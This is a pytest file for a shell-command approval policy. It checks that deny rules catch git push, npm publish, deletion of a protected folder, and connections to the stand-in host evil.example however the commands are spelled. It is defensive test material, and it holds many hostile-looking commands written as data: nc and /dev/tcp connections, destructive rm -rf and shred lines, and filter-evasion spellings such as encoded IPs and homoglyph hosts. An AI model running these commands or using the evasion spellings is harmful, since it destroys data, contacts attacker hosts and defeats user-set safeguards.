"""The user's own rules: what they apply to, and which are refused when they are read."""

import time

import pytest

from hermetic.approvals.matching import Directories
from hermetic.approvals.rules import Rules
from hermetic.approvals.settings import RuleSettings
from hermetic.contract.errors import ConfigError
from hermetic.policy import examine_command
from hermetic.policy.shell import DEFAULT_HOME, DEFAULT_WORKSPACE

GROUND = Directories(DEFAULT_HOME, DEFAULT_WORKSPACE)


def rule(decision: str, example: str, **more: object) -> RuleSettings:
    return RuleSettings(decision=decision, matches=(example,), **more)  # type: ignore[arg-type]


DENY_PUSH = rule("deny", "git push", command=("git", "push"))
PUSHES = (
    "git push",
    "git push origin main",
    "git -C sub push",
    "git -c a=b push --force",
    "/usr/bin/git push",
    "'git' pu''sh",
    "x=push; git $x",
    "bash -c 'git push'",
    "sudo git push",
    "env A=1 git push",
    "true && git push",
    "$(git push)",
    "echo | xargs git push",
    "timeout 5 git push",
    "git $UNKNOWN",
    "f() { git push; }; f",
    "python3 -c 'import os; os.system(\"git push\")'",
    "git send-pack origin main",
    "git -C sub send-pack --all origin",
    "git subtree push --prefix=lib origin lib",
    "git subtree -P lib push origin lib",
    "git --unknown-option value push",
    "/usr/lib/git-core/git-push origin",
    "git-send-pack origin",
    "hub push",
    "git lfs push origin main",
    "jj git push",
    "git config alias.x push",
    "git config --global alias.up 'push origin'",
)


@pytest.mark.parametrize("command", PUSHES)
def test_a_denied_command_is_found_however_it_is_written(command: str) -> None:
    rules = Rules([DENY_PUSH])
    assert rules.denied(command, examine_command(command).acts, GROUND)


@pytest.mark.parametrize(
    "command", ["git pull", "echo git push", "git commit -m 'git push'", "gitpush", "grep push x"]
)
def test_and_nothing_else(command: str) -> None:
    rules = Rules([DENY_PUSH], ["git push*"])
    assert rules.denied(command, examine_command(command).acts, GROUND) is None


PUBLISHES = (
    "npm publish",
    "npm --silent publish",
    "npm --loglevel silent publish",
    "npm -w lib publish --access public",
    "npm pub",
    "yarn npm publish",
    "yarn publish",
    "pnpm --filter lib publish",
    "npx npm publish",
    "bun publish",
    "corepack npm publish",
    "corepack pnpm@9 publish",
    "cross-env A=1 npm publish",
    "yarn workspace lib npm publish",
    "yarn workspaces foreach --all npm publish",
    "npx changeset publish",
)


@pytest.mark.parametrize("command", PUBLISHES)
@pytest.mark.parametrize("by_glob", [False, True])
def test_a_denied_effect_has_many_spellings(command: str, by_glob: bool) -> None:
    named = Rules([rule("deny", "npm publish", command=("npm", "publish"))])
    rules = Rules([], ["npm publish*"]) if by_glob else named
    assert rules.denied(command, examine_command(command).acts, GROUND)


@pytest.mark.parametrize(
    "command", ["npm run build", "npm --silent test", "npm view publish", "yarn build", "npm ci"]
)
def test_other_effects_of_the_same_program_are_not_denied(command: str) -> None:
    rules = Rules([rule("deny", "npm publish", command=("npm", "publish"))], ["npm publish*"])
    assert rules.denied(command, examine_command(command).acts, GROUND) is None


@pytest.mark.parametrize(
    "command",
    [
        "git push --force",
        "git push origin main --force",
        "git push -f",
        "git push -uf origin main",
        "git push origin +main",
    ],
)
def test_a_denied_option_counts_wherever_it_stands(command: str) -> None:
    for rules in (
        Rules([], ["git push --force*"]),
        Rules([rule("deny", "git push --force", command=FORCE)]),
    ):
        assert rules.denied(command, examine_command(command).acts, GROUND), command
        assert (
            rules.denied(
                "git push origin main", examine_command("git push origin main").acts, GROUND
            )
            is None
        )


FORCE = ("git", "push", "--force")


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete --force pod web-1",
        "kubectl -n prod delete pod web-1",
        "kubectl delete -n prod pod web-1",
        "kubectl --context x delete --grace-period 0 pod web-1",
    ],
)
def test_options_between_the_words_of_a_rule_do_not_hide_them(command: str) -> None:
    rules = Rules([rule("deny", "kubectl delete pod x", command=("kubectl", "delete", "pod"))])
    assert rules.denied(command, examine_command(command).acts, GROUND)


MIGRATIONS = rule("deny", "rm migrations/a", path="migrations/**")


@pytest.mark.parametrize(
    "command",
    [
        "find migrations -delete",
        "find migrations -name '*.py' -delete",
        "find . -delete",
        "find . -type f -delete",
        "git clean -fdx migrations",
        "git clean -fdx -- ./migrations/old",
        "rm -rf *",
        "rm -rf migr*",
        "rm -r m?grations",
        "rm migrations/*.py",
        'rm -rf "migrations/$X"',
        "python3 -c 'import shutil; shutil.rmtree(\"migrations\")'",
        "git -C migrations checkout .",
        "git -C migrations reset --hard",
        "git checkout -- migrations/a",
        "git checkout HEAD~1 migrations",
        "git restore migrations",
        "git rm -r migrations",
        "git worktree remove --force migrations",
        "shred -u migrations/x",
        "shred migrations/x",
        "docker run --rm -v ./migrations:/d alpine rm -rf /d/x",
        "docker run -v $PWD:/d alpine sh -c 'cd / && rm -rf /d/migrations'",
        "docker run --mount type=bind,source=$PWD/migrations,target=/d alpine rm /d/x",
        "gzip migrations/x",
        "gunzip migrations/x.gz",
        "rclone purge migrations",
        "rclone delete ./migrations/old",
        "rclone sync empty migrations",
        "rclone move migrations remote:x",
        "git mv migrations other",
        "rename s/a/b/ migrations/a",
    ],
)
def test_a_denied_path_is_kept_from_every_way_to_delete_it(command: str) -> None:
    assert Rules([MIGRATIONS]).denied(command, examine_command(command).acts, GROUND)


@pytest.mark.parametrize(
    "command",
    [
        "find . -name '*.pyc' -delete",
        "find . -mtime +30 -delete",
        "git clean -fdx",
        "git reset --hard",
        "git clean -fdx :/",
        "git clean -f -- 'migr*'",
        "git stash -u",
        "git read-tree -u --reset HEAD",
        "git checkout-index -f -a",
    ],
)
def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
    rules, acts = Rules([MIGRATIONS]), examine_command(command).acts
    assert rules.denied(command, acts, GROUND) is None
    assert list(rules.asked(acts, GROUND))


@pytest.mark.parametrize(
    "command",
    [
        "find logs -name '*.log' -delete",
        "rm *.log",
        "rm *",
        "rm -rf build",
        "git clean -fdx build",
        "rm -rf bu*",
        "rm -rf mig",
        "git checkout main",
        "git -C build checkout .",
        "git restore --staged .gitignore",
        "gzip -k migrations/x",
        "gzip -c migrations/x",
        "zstd migrations/x",
        "rclone purge remote:migrations",
        "rclone sync migrations remote:x",
        "git stash list",
        "git read-tree HEAD",
        "git checkout-index --prefix=out/ -a",
        "docker run -v ./build:/d alpine rm -rf /d/migrations",
        "docker run -v ./migrations:/d alpine cat /d/x",
        "docker run -v ./build:/d alpine rm -rf /migrations",
    ],
)
def test_and_deleting_something_else_is_not(command: str) -> None:
    rules, acts = (
        Rules([MIGRATIONS, rule("deny", "rm .env", path=".env")]),
        examine_command(command).acts,
    )
    assert rules.denied(command, acts, GROUND) is None
    assert not list(rules.asked(acts, GROUND))


@pytest.mark.parametrize(
    "command",
    [
        "find build -delete",
        "git clean -fdx build",
        "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
    ],
)
def test_deleting_is_what_rm_does_whatever_does_it(command: str) -> None:
    for rules in (Rules([rule("deny", "rm x", command=("rm",))]), Rules([], ["rm -rf*"])):
        assert rules.denied(command, examine_command(command).acts, GROUND)
        assert rules.denied("", examine_command("mv a b; touch c").acts, GROUND) is None


def test_a_glob_of_whole_paths_does_not_deny_the_workspace() -> None:
    rules = Rules([], ["rm -rf /*"])
    assert rules.denied("rm -rf build", examine_command("rm -rf build").acts, GROUND) is None
    assert rules.denied("find /srv/x -delete", examine_command("find /srv/x -delete").acts, GROUND)


@pytest.mark.parametrize(
    ("path", "command", "applies"),
    [
        ("src/**", "echo x > src/a/b.py", True),
        ("src/**", "cd src && rm a", True),
        ("src/**", "cp a src", True),
        ("src/**", "touch other/src/a", False),
        ("src/*.py", "touch src/a.py", True),
        ("src/*.py", "touch src/x/a.py", False),
        ("**/*.lock", "touch a/b/c.lock", True),
        ("~/.vimrc", "echo x >> ~/.vimrc", True),
        ("/srv", "rm /srv/a/b", True),
        ("/srv", "rm /srv2/a", False),
        ("src/**", "cat src/a", False),
        ("src/**", "rm -rf .", True),
        ("src/**", "mv src /tmp/x", True),
        ("src/**", "mv src/a b", True),
        ("src/**", "sed -i s/a/b/ ./x/../src/c", True),
    ],
)
def test_a_path_is_ruled_by_where_it_leads(path: str, command: str, applies: bool) -> None:
    asked = Rules([RuleSettings(decision="ask", path=path, matches=(_example(path),))])
    assert bool(list(asked.asked(examine_command(command).acts, GROUND))) is applies


def _example(path: str) -> str:
    return f"touch {path.replace('**/', 'x/').replace('**', 'x').replace('*', 'x')}"


def test_a_path_that_cannot_be_known_may_be_what_is_denied_and_is_asked_about() -> None:
    rules = Rules([rule("deny", "rm src/a", path="src/**")])
    acts = examine_command('echo x > "$FILE"').acts
    assert rules.denied("", acts, GROUND) is None
    assert len(list(rules.asked(acts, GROUND))) == 1


@pytest.mark.parametrize(
    ("command", "applies"),
    [
        ("curl https://api.evil.example/x", True),
        ("git clone https://u:p@evil.example/r", True),
        ("ssh me@evil.example ls", True),
        ("scp a evil.example:/b", True),
        ("echo x > /dev/tcp/evil.example/80", True),
        ("wget evil.example/x", True),
        ("python3 -c \"import requests; requests.get('http://evil.example/')\"", True),
        ("curl https://evil.example./", True),
        ("curl https://EVIL.example.:443/x", True),
        ("curl https://ev%69l.example/", True),
        ("wget evil.example./x", True),
        ("ssh me@evil.example. ls", True),
        ("ssh -o HostName=evil.example web1 ls", True),
        ("ssh -J evil.example web1 ls", True),
        ("curl --connect-to ok.example:443:evil.example:443 https://ok.example", True),
        ("curl --connect-to ::evil.example: https://ok.example", True),
        ("curl -x http://evil.example:3128 https://ok.example", True),
        ("https_proxy=http://evil.example:3128 curl https://ok.example", True),
        ("curl -H 'Host: evil.example' https://203.0.113.7/", True),
        ("openssl s_client -connect evil.example:443", True),
        ("openssl s_client -quiet -connect api.evil.example:443 < x", True),
        ("psql -h evil.example -c 'select 1'", True),
        ("nc evil.example 80", True),
        ("openssl s_client evil.example:443", True),
        ("socat - TCP:evil.example:80", True),
        ("socat - OPENSSL:evil.example:443,verify=0", True),
        ("socat - PROXY:ok.example:evil.example:443,proxyport=3128", True),
        ("python3 -c 'import socket; socket.create_connection((\"evil.example\", 80))'", True),
        (
            "python3 -c 'import socket; s = socket.socket(); s.connect((\"evil.example\", 80))'",
            True,
        ),
        ("cat </dev/tcp/evil.example/80", True),
        ("exec 3<>/dev/tcp/evil.example/80", True),
        ("curl 'http://{ok,evil}.example/'", True),
        ("curl '{ok,evil}.example'", True),
        ("curl http:/evil.example", True),
        ("curl https:///evil.example/x", True),
        ("mysql -hevil.example app", True),
        ("curl -xevil.example:3128 https://ok.example", True),
        ("docker pull evil.example/x", True),
        ("docker --debug run --rm evil.example:5000/x:1 ls", True),
        ("podman login evil.example", True),
        ("git -c http.proxy=evil.example:3128 fetch", True),
        ("git -c http.https://ok.example.proxy=http://evil.example fetch", True),
        ("wget -e http_proxy=evil.example:3128 http://ok.example", True),
        ("git push evil.example:x", True),
        ("git fetch evil.example:x/y.git", True),
        ("go get evil.example/x", True),
        ("go install evil.example/x@latest", True),
        ("GOPROXY=https://evil.example,direct go get ok.example/x", True),
        ("ssh -o ProxyCommand='nc evil.example 22' ok.example", True),
        ("ssh -L 8080:evil.example:80 ok.example", True),
        ("ssh -R8080:evil.example:80 ok.example", True),
        ("gpg --keyserver hkps://evil.example --recv-keys x", True),
        ("gpg --keyserver evil.example --recv-keys x", True),
        ("psql 'host=evil.example dbname=x'", True),
        ("PGHOST=evil.example psql", True),
        ("DOCKER_HOST=tcp://evil.example:2375 docker ps", True),
        ("gh api --hostname evil.example /x", True),
        ("GH_HOST=evil.example gh api /x", True),
        ("smbclient //evil.example/share", True),
        ("sshfs evil.example:/x mnt", True),
        ("tar xf evil.example:x", True),
        ("nmap evil.example", True),
        ("perl -MLWP::Simple -e 'get \"http://evil.example\"'", True),
        ("php -r 'file_get_contents(\"https://evil.example/x\");'", True),
        ("apt-get -o Acquire::http::Proxy=http://evil.example update", True),
        ("curl https://evil\u3002example/", True),
        ("curl https://\uff45\uff56\uff49\uff4c.example/", True),
        ("PGHOST=/run/postgresql psql", False),
        ("go test ./evil.example/x", False),
        ("git show HEAD:evil.example", False),
        ("tar xf evil.example.tar", False),
        ("ssh -L 8080:localhost:80 ok.example", False),
        ("curl -g 'http://{ok,evil}.example/'", False),
        ("socat TCP-LISTEN:80,fork EXEC:evil.example", False),
        ("docker build -t evil.example/x .", False),
        ("docker run alpine ls", False),
        ("openssl s_client -CAfile evil.example -connect ok.example:443", False),
        ("curl https://evil.example.org/", False),
        ("curl --connect-to ok.example:443:127.0.0.1:443 https://ok.example", False),
        ("openssl x509 -in evil.example -noout", False),
        ("echo evil.example", False),
    ],
)
def test_a_host_is_found_wherever_it_is_named(command: str, applies: bool) -> None:
    rules = Rules([rule("deny", "curl https://evil.example", network="*.evil.example")])
    assert bool(rules.denied(command, examine_command(command).acts, GROUND)) is applies


def test_an_address_in_the_place_of_a_name_is_asked_about() -> None:
    rules = Rules([rule("deny", "curl https://evil.example", network="*.evil.example")])
    acts = examine_command("curl --resolve ok.example:443:203.0.113.7 https://ok.example").acts
    assert rules.denied("", acts, GROUND) is None
    assert list(rules.asked(acts, GROUND))
    assert not list(
        rules.asked(
            examine_command("curl --resolve a.test:80:127.0.0.1 http://a.test").acts, GROUND
        )
    )


@pytest.mark.parametrize("host", ["203.0.113.7", "0xcb.0.113.7", "3405803783", "203.0.28935"])
def test_an_address_is_ruled_in_every_spelling(host: str) -> None:
    rules = Rules([rule("deny", "curl http://203.0.113.7", network="203.0.113.*")])
    command = f"curl http://{host}/x"
    assert rules.denied(command, examine_command(command).acts, GROUND)


def test_the_first_rule_that_applies_decides_between_asking_and_allowing() -> None:
    narrow = rule("allow", "curl https://docs.example/x", network="docs.example")
    wide = rule("ask", "curl https://x.example", network="*.example")
    acts = examine_command("curl https://docs.example/x").acts
    assert list(Rules([narrow, wide]).asked(acts, GROUND)) == []
    assert list(Rules([wide, narrow]).asked(acts, GROUND)) != []


WHOLE = "bash sh python3 python3.12 perl node sudo env rm git find docker /bin/bash b*"
TOO_MUCH = [
    *([program] for program in WHOLE.split(" ")),
    ["rm", "-rf"],
    ["git", "-C"],
    ["bash", "-c"],
    ["sudo", "apt"],
    ["rm", "*"],
    ["xargs", "rm"],
    ["npx", "x"],
    ["ssh", "host"],
]


@pytest.mark.parametrize("words", TOO_MUCH, ids=" ".join)
def test_no_rule_allows_a_shell_or_its_like_as_a_whole(words: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"as a whole|named whole"):
        Rules([rule("allow", " ".join(words), command=tuple(words))])


@pytest.mark.parametrize("path", ["/", "**", "~", "~/**", "/**"])
def test_no_rule_allows_everything(path: str) -> None:
    with pytest.raises(ConfigError, match="it would allow everything"):
        Rules([rule("allow", "touch a", path=path)])


def test_one_exact_command_of_such_a_program_can_be_allowed() -> None:
    rules = Rules(
        [
            rule(
                "allow",
                "sudo systemctl restart app",
                command=("sudo", "systemctl", "restart", "app"),
                exact=True,
            )
        ]
    )
    parts = examine_command("sudo systemctl stop app").verdict.parts
    assert not any(rules.allows(part, GROUND) for part in parts)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf " + " ".join(f"'a{n}'*{'b*' * 200}/x" for n in range(400)),
        "rm -rf " + "/".join(["*"] * 2000),
        "touch " + " ".join(f"{'x' * 250}{n}" for n in range(1500)),
        "npm " + "--a b " * 3000 + "publish",
        "git push " + "-f " * 3000,
    ],
    ids=["globs", "deep", "long names", "options", "flags"],
)
def test_rules_take_bounded_time(command: str) -> None:
    rules = Rules(
        [MIGRATIONS, rule("deny", "rm src/axbyc/x", path="src/*x*y*/**"), DENY_PUSH],
        ["npm publish*", "git push --force*", "*x*y*z*"],
    )
    acts = examine_command(command).acts
    begun = time.thread_time()
    rules.denied(command, acts, GROUND)
    list(rules.asked(acts, GROUND))
    assert time.thread_time() - begun < 2  # a tenth of that on an idle machine
